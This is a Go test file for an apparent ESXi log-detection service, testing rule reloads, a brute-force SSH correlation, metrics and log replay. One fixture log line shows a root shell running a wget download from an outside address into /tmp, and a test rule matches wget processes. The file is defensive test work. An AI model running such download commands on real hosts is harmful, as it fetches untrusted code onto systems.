package app

import (
	"encoding/json"
	"fmt"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/vegress/vegress/configs"
)

// paired is two rules that both hold for every numbered record, each of a log
// source of its own.
func paired(color string) string {
	return fmt.Sprintf(`title: One of %[1]s
id: %[1]s-one
logsource: {product: vmware_esxi, service: vobd}
detection: {a: ['record tcp'], condition: a}
---
title: Two of %[1]s
id: %[1]s-two
logsource: {product: vmware_esxi, category: administration}
detection: {a: ['record tcp'], condition: a}
`, color)
}

// ruleHits sums the hits of each rule over all shards.
func (s *service) ruleHits() map[string]int64 {
	hits := map[string]int64{}
	for _, shard := range s.collector.shards {
		for _, one := range shard.analysis.rules.Stats().Rules {
			hits[one.UID] += one.Hits
		}
	}
	return hits
}

// TestReloadOfRules: under load every event is evaluated, once, by the whole
// of one set of rules; open findings go on; a bad configuration changes
// nothing.
func TestReloadOfRules(t *testing.T) {
	t.Parallel()
	dir := map[string]string{"red": write(t, "red.yml", paired("red")), "blue": write(t, "blue.yml", paired("blue"))}
	with := func(color string) configs.Config {
		return testConfig(t, "", map[string]any{"rules.builtin": false, "rules.paths": []string{dir[color]}})
	}
	s := start(t, with("red"))
	load := startLoad(t, time.Millisecond, 10, s.sender(), s.sender())
	for i := range 30 {
		before := s.account().Received
		color := []string{"blue", "red"}[i%2]
		if err := s.reload(with(color)); err != nil {
			t.Fatal(err)
		}
		bad := with(color)
		bad.Rules.Paths = []string{"/nowhere/rules"}
		if err := s.reload(bad); err == nil {
			t.Fatal("rules that are not there are taken")
		}
		s.eventually("records after the reload", func() bool { return s.account().Received > before+50 })
	}
	load.stop()
	s.settled(load.total())
	hits := s.ruleHits()
	if hits["red-one"] != hits["red-two"] || hits["blue-one"] != hits["blue-two"] || hits["red-one"] == 0 || hits["blue-one"] == 0 ||
		hits["red-one"]+hits["blue-one"] != load.total() {
		t.Errorf("of %d records the rules held for %v", load.total(), hits)
	}
	opened := map[string]int64{}
	for _, shard := range s.collector.shards {
		for _, f := range shard.analysis.rules.Stats().Findings {
			opened[f.Analytic] += f.Opened
		}
	}
	if len(opened) != 4 || opened["red-one"] != 1 || opened["blue-two"] != 1 {
		t.Errorf("findings opened, over %d reloads: %v", 30, opened)
	}
}

// TestRulesInService: a correlation over the shards, what a restart keeps, and
// what metrics and the log say.
func TestRulesInService(t *testing.T) {
	t.Parallel()
	rules := write(t, "mine.yml", `title: Nobody knows this field
id: not-used
logsource: {product: vmware_esxi}
detection: {a: {b|nope: c}, condition: a}
`)
	config := testConfig(t, "", map[string]any{"rules.paths": []string{rules}})
	s := start(t, config)
	sent := int64(0)
	say := func(host, text string) {
		t.Helper()
		fmt.Fprintf(s.sender(), "<86>%s %s sshd[2101460]: %s keyboard-interactive/pam for root from 10.0.0.7 port 50311 ssh2\n", time.Now().UTC().Format(stamp), host, text)
		sent++
		s.settled(sent)
	}
	for i := range 6 {
		say(fmt.Sprintf("esx%02d", i), "Failed")
	}
	say("esx01", "Accepted")
	const bruteForce = "8f44de32-5816-44e2-ab3a-400318c48b38"
	found := func() bool {
		for _, one := range s.floor.rules.Stats().Rules {
			if one.UID == bruteForce && one.Hits == 1 {
				return true
			}
		}
		return false
	}
	s.eventually("the correlation", found)
	if l := s.collector.shards[0].analysis.rules.Policy().Loaded(); l.Refused != 1 || l.Rules < 60 || l.Correlations < 5 {
		t.Errorf("%+v", l)
	}
	metrics := scrapeMetrics(t, s)
	for name, want := range map[string]int64{
		`vegress_rules{state="refused"}`: 1, `vegress_rule_hits_total{rule="` + bruteForce + `"}`: 1,
		`vegress_findings_open{analytic="` + bruteForce + `"}`: 1,
	} {
		if got, ok := metrics[name]; got != want || !ok {
			t.Errorf("%s is %d, want %d", name, got, want)
		}
	}
	if _, ok := metrics[`vegress_correlation_sightings_total{result="counted"}`]; !ok {
		t.Error("no metrics of correlations")
	}
	if err := s.reportRulesOnce(t.Context(), time.Now()); err != nil {
		t.Fatal(err)
	}
	listed := command(t, "rules", "list", "--stats", "--json", "--id", bruteForce, "--nats", s.broker.ClientURL())
	var did []struct{ Hits int64 }
	if err := json.Unmarshal([]byte(listed.out), &did); err != nil || len(did) != 1 || did[0].Hits != 1 {
		t.Errorf("rules list --stats: %d, %s%s", listed.code, listed.out, listed.err)
	}
	if table := command(t, "rules", "list", "--stats", "--id", bruteForce, "--nats", s.broker.ClientURL()); !strings.HasPrefix(table.out, "HITS") {
		t.Errorf("%d, %s%s", table.code, table.out, table.err)
	}
	if err := s.stop(); err != nil {
		t.Fatal(err)
	}
	again := start(t, config)
	again.eventually("the finding taken up again", func() bool {
		for _, f := range again.floor.rules.Stats().Findings {
			if f.Analytic == bruteForce && f.Open == 1 {
				return true
			}
		}
		return false
	})
}

// TestReplayRules: --rules stands in for the built-in and configured rules,
// what is refused is said, and a path that is not there is wrong usage.
func TestReplayRules(t *testing.T) {
	log := write(t, "esx01.log", "<14>2026-11-02T09:15:01Z esx01 shell[2101456]: [root]: wget http://203.0.113.9/a -O /tmp/a\n")
	mine := write(t, "mine.yml", `title: Our name for it
id: 44444444-0000-4000-8000-000000000001
logsource: {product: linux, category: process_creation}
detection: {a: {Image|endswith: /wget}, condition: a}
---
title: Without a condition
logsource: {product: linux}
detection: {a: {b: c}}
`)
	for _, c := range []struct {
		args      []string
		want, not string
	}{
		{nil, "ESXi: download to a host", "Our name for it"},
		{[]string{"--rules", mine}, "Our name for it", "ESXi: download to a host"},
	} {
		got := command(t, append([]string{"replay", "--output", "findings", log}, c.args...)...)
		if got.code != exitOK || !strings.Contains(got.out, c.want) || strings.Contains(got.out, c.not) || !strings.Contains(got.out, "egress.unjustified") {
			t.Errorf("%v: exit code %d: %s%s", c.args, got.code, got.out, got.err)
		}
		if refused := strings.Contains(got.err, "mine.yml:8"); refused != (c.args != nil) || !strings.Contains(got.err, "1 hits") {
			t.Errorf("%v says %s", c.args, got.err)
		}
	}
	if got := command(t, "replay", "--rules", "/nowhere", log); got.code != exitUsage || !strings.Contains(got.err, `"/nowhere"`) {
		t.Errorf("exit code %d: %s", got.code, got.err)
	}
}

// TestReplayOfCorrelations: the same input gives the same findings at any
// GOMAXPROCS, those of correlations among them.
func TestReplayOfCorrelations(t *testing.T) {
	file, config, _ := night(t)
	var outs [2]string
	for i, procs := range []int{1, 8} {
		before := runtime.GOMAXPROCS(procs)
		outs[i] = command(t, "replay", "--config", config, "--output", "findings", file).out
		runtime.GOMAXPROCS(before)
	}
	if outs[0] != outs[1] || !strings.Contains(outs[0], "8f44de32-5816-44e2-ab3a-400318c48b38") {
		t.Errorf("same %t, %d bytes", outs[0] == outs[1], len(outs[0]))
	}
}
